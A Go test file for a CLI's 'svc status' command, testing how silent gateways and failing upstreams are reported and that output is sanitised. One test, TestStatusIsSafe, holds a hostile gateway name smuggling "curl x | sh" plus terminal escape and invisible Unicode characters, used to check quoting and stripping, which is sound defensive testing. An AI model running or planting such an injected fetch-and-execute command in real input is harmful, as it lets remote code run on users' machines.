package planecmd

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"svc/cli/command"
	"svc/cli/process"
	"svc/store/api"
)

// statusOf runs svc status, on a host whose clock is slow, against a control plane with gateways, and returns what it
// shows.
func statusOf(t *testing.T, now time.Time, gateways []api.Gateway) (text string, wrong bool) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Date", now.UTC().Format(http.TimeFormat))
		switch r.URL.Path {
		case "/api/gateways":
			_ = json.NewEncoder(w).Encode(api.List[api.Gateway]{Data: gateways})
		case "/api/whoami", "/readyz":
			_, _ = fmt.Fprint(w, `{"data":{"tenant":{"name":"t"}}}`)
		default:
			w.WriteHeader(http.StatusForbidden)
			_, _ = fmt.Fprint(w, `{"error":"no"}`)
		}
	}))
	defer srv.Close()
	var out bytes.Buffer
	cmd := NewStatusCmd(process.Env{Stdout: &out, Stderr: &out, Now: func() time.Time { return now.Add(-3 * time.Hour) }, LookupEnv: func(name string) (string, bool) {
		v, ok := map[string]string{"SVC_URL": srv.URL, "SVC_API_KEY": "svc_api_0123456789012345678901234567890123456789012"}[name]
		return v, ok
	}})
	cmd.SilenceUsage, cmd.SilenceErrors = true, true
	cmd.SetArgs([]string{})
	err := cmd.ExecuteContext(t.Context())
	if err != nil && !errors.Is(err, command.ErrReported) {
		t.Fatal(err)
	}
	return out.String(), err != nil
}

func TestStatusOfSilentGateways(t *testing.T) {
	now := time.Date(2026, 11, 2, 14, 0, 0, 0, time.UTC)
	in := func(state string, ago time.Duration) api.GatewayInstance {
		i := api.GatewayInstance{SeenAt: now.Add(-ago)}
		i.State, i.Instance, i.Audit.Writable = state, "0123456789abcdef", true
		return i
	}
	for _, tt := range []struct {
		name, state string
		instances   []api.GatewayInstance
		want        string
		wrong       bool
	}{
		{"a silent gateway", "silent", []api.GatewayInstance{in("silent", 2*time.Hour), in("silent", 5*time.Minute)}, "WRONG  gateway  g  silent for 5m\n", true},
		{"a killed process, and its successor", "running", []api.GatewayInstance{in("running", 0), in("silent", 5*time.Minute)}, "WARN   gateway  g  1 of 2 instances are silent, for 5m\n", false},
		{"one that does not sign runs", "silent", []api.GatewayInstance{in("running", 0), in("silent", 5*time.Minute)}, "WRONG  gateway  g  silent for 5m\n", true},
		{"gone for days", "silent", []api.GatewayInstance{in("silent", 25*time.Hour), in("silent", 72*time.Hour)}, "2 instances have been silent for more than a day", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			text, wrong := statusOf(t, now, []api.Gateway{{Name: "g", State: tt.state, Instances: tt.instances}})
			if text = strings.Join(strings.Fields(text), " "); !strings.Contains(text, strings.Join(strings.Fields(tt.want), " ")) || wrong != tt.wrong {
				t.Errorf("wrong is %t: %s", wrong, text)
			}
		})
	}
}

// Whoever has an ingest key chooses the names of gateways and upstreams.
func TestStatusIsSafe(t *testing.T) {
	now := time.Now()
	hostile := "a'; curl x | sh #\x1b[2J\u202e\u200b\U000e0041\nOK\tstore"
	i := api.GatewayInstance{SeenAt: now}
	i.State, i.Upstreams, i.License.State, i.RestartPending = "running", []api.GatewayUpstream{{Name: hostile, State: "failing"}}, hostile, []string{hostile}
	silent := api.GatewayInstance{SeenAt: now}
	silent.State = "silent"
	text, _ := statusOf(t, now, []api.Gateway{{Name: hostile, State: "running", Instances: []api.GatewayInstance{i, silent}}})
	for _, r := range text {
		if r != '\n' && (r < ' ' || r >= 0x7f && r != '→' && r != '\ufffd') {
			t.Errorf("%U in the text:\n%q", r, text)
		}
	}
	for line := range strings.Lines(text) {
		if strings.Contains(line, "svc gateways forget") && !strings.Contains(line, `svc gateways forget 'a'\''; curl x | sh #`) {
			t.Errorf("a command that is not safe to copy: %s", line)
		}
	}
	if n := strings.Count(text, "\nOK "); n != 1 {
		t.Errorf("%d lines begin with OK:\n%s", n, text)
	}
	if !strings.Contains(text, "This key may not see:") {
		t.Errorf("what the key may not see is not named:\n%s", text)
	}
}

// One page: a gateway of which all upstreams fail has one line.
func TestStatusOfManyUpstreams(t *testing.T) {
	now := time.Now()
	i := api.GatewayInstance{SeenAt: now}
	i.State, i.Audit.Writable = "running", true
	for n := range 256 {
		i.Upstreams = append(i.Upstreams, api.GatewayUpstream{Name: fmt.Sprint("u", n), State: []string{"failing", "open", "ok"}[min(n, 2)]})
	}
	for n := range 100 {
		i.Upstreams[n+100].State = "failing"
	}
	text, wrong := statusOf(t, now, []api.Gateway{{Name: "g", State: "running", Instances: []api.GatewayInstance{i}}})
	if !wrong || strings.Count(text, "WRONG") != 2 || !strings.Contains(text, "fail: u0, u100, u101, u102, u103, and 96 more\n") || !strings.Contains(text, "open: u1\n") {
		t.Errorf("wrong is %t: %s", wrong, text)
	}
}
